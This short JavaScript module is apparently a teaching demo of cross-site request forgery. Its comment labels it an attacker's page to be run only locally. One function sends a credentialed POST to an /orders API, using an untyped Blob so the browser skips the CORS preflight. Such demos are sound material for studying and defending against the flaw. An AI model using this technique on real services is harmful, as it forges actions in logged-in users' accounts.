// wrong: this is the attacker's page. Run it on your own machine only.
// A Blob without a type has no Content-Type, so the browser doesn't send a preflight.
async function orderWithoutType(api) {
  const body = new Blob([JSON.stringify({ bread: 'rye', to: location.origin })]);
  const response = await fetch(`${api}/orders`, {
    method: 'POST',
    credentials: 'include',
    body,
  });
  return response.json();
}

async function readLastOrder(api) {
  const response = await fetch(`${api}/orders`);
  return response.json();
}

export default [orderWithoutType, readLastOrder];
